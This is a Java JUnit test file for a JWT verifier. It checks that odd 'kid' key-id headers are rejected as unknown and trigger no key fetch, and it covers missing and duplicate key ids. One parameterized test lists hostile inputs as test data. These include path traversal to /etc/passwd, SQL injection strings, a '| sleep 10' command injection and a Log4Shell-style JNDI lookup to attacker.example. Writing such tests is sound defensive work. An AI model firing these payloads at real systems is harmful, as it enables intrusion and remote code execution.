package io.portcullis.enforcer.token;

import static org.junit.jupiter.api.Assertions.assertEquals;

import com.nimbusds.jose.jwk.RSAKey;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The {@code kid} is looked up among the published keys, and means nothing else (RFC 8725 section 3.10). */
class KeyIdTest {

  private final Gate gate = new Gate(TestKeys.RSA);

  @AfterEach
  void close() {
    gate.close();
  }

  @ParameterizedTest
  @ValueSource(strings = {"../../../../dev/null", "/etc/passwd", "..\\..\\secret", "' OR 1=1 --",
      "x' UNION SELECT 'key'; --", "rsa\u0000", "rsa ", "RSA", "", "http://attacker.example/key", "%72sa", "| sleep 10",
      "${jndi:ldap://attacker.example/a}", "rsa\n"})
  void anOddKeyIdIsUnknownAndFetchesNothing(String keyId) {
    int before = gate.keyRequests.get();
    gate.clock.advanceMillis(60_000);
    String compact = Minted.accessToken().header("kid", keyId).claim("iat", Minted.NOW + 60).compact();
    Verification outcome = gate.verifier.verifyEventually(compact).toCompletableFuture().join();
    assertEquals(new Verification.Rejected(Rejection.UNKNOWN_KEY), outcome);
    assertEquals(before + ("RSA".equals(keyId) ? 1 : 0), gate.keyRequests.get());
  }

  @Test
  void aKeyIdBeyondAllMeasureIsMalformed() {
    assertEquals(Rejection.MALFORMED, gate.rejection(Minted.accessToken().header("kid", "k".repeat(300)).compact()));
  }

  @Test
  void aTokenWithoutKeyIdIsVerifiedByTheOnlyKeyThatFits() {
    Minted minted = Minted.accessToken();
    minted.header.remove("kid");
    gate.verified(minted.compact());
  }

  @Test
  void aTokenWithoutKeyIdIsRefusedWhereSeveralKeysFit() {
    Minted minted = Minted.accessToken();
    minted.header.remove("kid");
    gate.publish(TestKeys.RSA, TestKeys.OTHER_RSA);
    assertEquals(Rejection.UNKNOWN_KEY, gate.rejection(minted.compact()));
  }

  @Test
  void twoKeysOfOneIdAreNotTriedInTurn() {
    RSAKey twin = TestKeys.rsa("rsa", null);
    gate.publish(TestKeys.RSA, twin);
    assertEquals(Rejection.UNKNOWN_KEY, gate.rejection(Minted.accessToken().compact()));
  }

  @Test
  void anotherKeysIdDoesNotHelpAForger() {
    gate.publish(TestKeys.RSA, TestKeys.P256);
    assertEquals(Rejection.SIGNATURE, gate.rejection(Minted.accessToken().signedWith(TestKeys.OTHER_RSA).compact()));
    assertEquals(Rejection.UNKNOWN_KEY,
        gate.rejection(Minted.accessToken().header("kid", "p256").compact()));
  }
}
